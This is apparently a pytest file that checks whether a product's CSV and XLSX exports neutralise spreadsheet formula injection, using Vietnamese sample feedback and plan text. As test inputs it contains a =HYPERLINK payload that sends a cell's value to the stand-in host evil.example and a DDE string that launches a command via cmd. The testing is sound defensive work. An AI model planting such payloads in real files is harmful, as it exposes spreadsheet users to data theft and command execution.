"""Item 5 of issue 16: every CSV/XLSX the product writes keeps text as text. The inputs that broke:
a feedback comment ``=HYPERLINK(…)`` exported by ``rag feedback export --csv``, and plan text that
starts with ``=``, ``+``, ``-`` or ``@`` in the agency view's CSV."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

from openpyxl import load_workbook

from tests.conftest import ROOT

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def test_feedback_export_neutralises_a_formula_comment(tmp_path):
    from rag.config import load_settings
    from rag.storage import Feedback, Rating, open_database

    env = {"RAG_DATA_DIR": str(tmp_path / "data"), "RAG_DATABASE_URL": ""}
    db = open_database(load_settings(env=env))
    for text in (ATTACK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "Bình thường"):
        db.feedback.add(Feedback(rating=Rating.DOWN, question="Hỏi?", answer="Đáp.", comment=text, user_name="lan"))
    db.close()
    out = tmp_path / "gop-y.csv"
    done = subprocess.run([sys.executable, "-m", "rag.cli", "feedback", "export", "--csv", "--out", str(out)],
                          cwd=ROOT, env={**os.environ, **env}, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    comments = [r[4] for r in rows[1:]]
    assert comments == ["'" + ATTACK, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1+1", "Bình thường"]


def test_agency_csv_keeps_plan_text_as_text():
    from ui.render import rows_to_csv

    rows = [["KH X", "IV.1", "chủ trì", "=1+1 lấy dữ liệu", "-"], ["KH X", "IV.2", "phối hợp", "- Tuyên truyền", "@2025"]]
    read = list(csv.reader(io.StringIO(rows_to_csv(rows))))
    assert read[1][3] == "'=1+1 lấy dữ liệu" and read[1][4] == "-"  # an empty deadline stays a dash
    assert read[2][3] == "'- Tuyên truyền" and read[2][4] == "'@2025"


def test_xlsx_cells_are_typed_text_never_formulas(tmp_path):
    from rag.sheets import append_row, new_workbook, workbook_bytes

    book = new_workbook()
    append_row(book.active, [ATTACK, "+1", 3.5])
    path = tmp_path / "x.xlsx"
    path.write_bytes(workbook_bytes(book))
    cells = list(load_workbook(path).active.iter_rows(values_only=True))[0]
    assert cells == (ATTACK, "+1", 3.5)
    row = list(load_workbook(path).active.iter_rows())[0]
    assert row[0].data_type == "s"
